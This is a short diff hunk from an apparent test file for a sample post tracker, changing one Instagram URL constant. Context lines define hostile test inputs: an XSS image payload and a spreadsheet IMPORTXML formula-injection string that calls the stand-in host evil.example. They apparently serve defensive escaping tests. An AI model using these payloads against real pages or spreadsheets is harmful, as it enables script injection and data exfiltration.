@@ -20,7 +20,7 @@ useBrowserAndPreview((b, p) => {
 });
 
 /** A post of the sample tracker (Mia Hoffmann, Summer Sun Sale) and a new one. */
-const MIA = "https://www.instagram.com/p/_BwbTb_VD0d/";
+const MIA = "https://www.instagram.com/p/QBQ8vx6LZui/";
 const HTML = '<img src=x onerror="window.hacked=1">';
 const FORMULA = '=IMPORTXML("http://evil.example","//a")';
 const FILE = [
